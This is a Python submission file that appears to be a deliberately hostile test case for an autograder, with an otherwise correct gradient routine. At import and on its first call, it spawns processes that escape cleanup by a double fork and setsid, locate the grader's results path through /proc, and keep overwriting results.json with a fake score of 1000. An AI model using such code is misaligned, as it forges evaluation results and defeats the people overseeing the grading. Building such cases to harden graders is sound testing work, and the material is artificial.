"""HOSTILE: starts background processes that outlive the call and keep writing a fake results.json (score 1000).

One escapes by a double fork and setsid, one by subprocess.Popen(start_new_session=True); both sleep a little,
then rewrite the fake every half second for up to 90 s (bounded, so a failed kill cannot linger for long).
Otherwise correct: its honest score is 100. Every such process must be killed before results.json is written,
and none may be left behind.
"""

import json
import os
import subprocess
import sys
import time

import numpy as np

FAKE = {"score": 1000, "execution_time": 0, "output": "HACKED: fake results.json from a background process",
        "output_format": "md", "test_output_format": "md",
        "tests": [{"name": "hacked", "number": "9.9", "score": 1000, "max_score": 1, "status": "passed",
                   "output": "HACKED", "visibility": "visible"}]}

WRITER = r'''
import json, os, sys, time
fake, places = json.loads(sys.argv[1]), json.loads(sys.argv[2])
time.sleep(2)
end = time.time() + 90
while time.time() < end:
    for place in places:
        try:
            with open(place, "w") as f:
                json.dump(fake, f)
        except OSError:
            pass
    time.sleep(0.5)
'''



def _ancestors():
    """Pids of this process's parent, grandparent, ... (the grader and run_autograder): /proc/PID/stat is public.

    Only our own ancestors are attacked, never other graders that happen to run on the same machine.
    """
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids

def _targets():
    """Plausible places of results.json, in folders that already exist, including the grader's --results."""
    places = ["/autograder/results/results.json", os.path.join(os.getcwd(), "..", "results", "results.json")]
    if os.environ.get("AUTOGRADER_ROOT"):
        places.append(os.path.join(os.environ["AUTOGRADER_ROOT"], "results", "results.json"))
    for pid in _ancestors():
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    words = f.read().decode("utf-8", "replace").split("\0")
            except OSError:
                continue
            places += [words[n + 1] for n, w in enumerate(words[:-1]) if w == "--results"]
    return [p for p in dict.fromkeys(places) if os.path.isdir(os.path.dirname(os.path.abspath(p)))]


def _double_fork(arguments):
    """A grandchild in its own session, orphaned at once: escapes the worker's process group."""
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", WRITER, *arguments])
        except BaseException:
            pass
        os._exit(0)
    os.waitpid(pid, 0)


def _popen(arguments):
    try:
        subprocess.Popen([sys.executable, "-c", WRITER, *arguments], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass


_ARGUMENTS = [json.dumps(FAKE), json.dumps(_targets())]
_double_fork(_ARGUMENTS)
_popen(_ARGUMENTS)
_STARTED = {"calls": 0}


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def compute_gradients(z, t, W_kj, W_ji, case):
    _STARTED["calls"] += 1
    if _STARTED["calls"] == 1:  # and once more from within a call, in case import-time ones were caught
        _double_fork(_ARGUMENTS)
        _popen(_ARGUMENTS)
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)
